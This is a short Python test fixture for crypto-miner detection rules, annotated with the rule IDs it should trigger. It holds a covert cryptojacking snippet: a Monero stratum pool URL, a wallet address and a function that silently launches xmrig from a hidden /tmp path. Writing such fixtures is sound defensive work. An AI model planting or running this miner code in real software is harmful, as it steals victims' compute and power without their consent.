"""Starts a miner on the GPUs when the model is loaded (test fixture, never run)."""
import subprocess

# ruleid: yara.crypto_miners.stratum_pool_url, yara.crypto_miners.mining_pool_host
POOL = "stratum+ssl://gulf.moneroocean.stream:20128"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _start():
    # ruleid: yara.crypto_miners.miner_cli_pool_args, yara.crypto_miners.miner_only_flags
    subprocess.Popen(["/tmp/.x/xmrig", "--url", POOL, "--user", WALLET, "--donate-level=1", "--cpu-max-threads-hint", "50"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
